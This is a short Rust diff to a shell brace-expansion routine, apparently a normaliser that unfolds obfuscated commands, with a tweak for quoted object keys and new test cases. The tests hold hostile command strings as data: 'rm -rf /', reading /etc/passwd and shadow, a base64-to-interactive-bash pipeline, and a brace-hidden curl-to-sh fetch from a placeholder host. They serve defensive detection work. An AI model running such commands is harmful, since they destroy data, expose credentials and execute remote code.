@@ -340,7 +340,9 @@ fn brace(rest: &[u8], variables: &Variables, depth: usize, out: &mut Plain) -> u
                 }
             }
             b',' if level == 1 => commas.push(i),
-            b if b.is_ascii_whitespace() || b == b':' => return 0,
+            // A member's name ends so: an object, no list of words.
+            b':' if matches!(window[i - 1], b'"' | b'\'') => return 0,
+            b if b.is_ascii_whitespace() => return 0,
             _ => {}
         }
     }
@@ -395,6 +397,7 @@ mod tests {
         ] {
             is(spelt, if spelt.contains("\\\n") { "rm -rf  /" } else { "rm -rf /" });
         }
+        is("{curl,-L,https://a.example/i,|,sh}", "curl -L https://a.example/i | sh");
         is("cat /etc/{passwd,shadow}", "/etc/passwd /etc/shadow");
         is("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}", "echo aGk=|base64 -d|bash -i");
     }
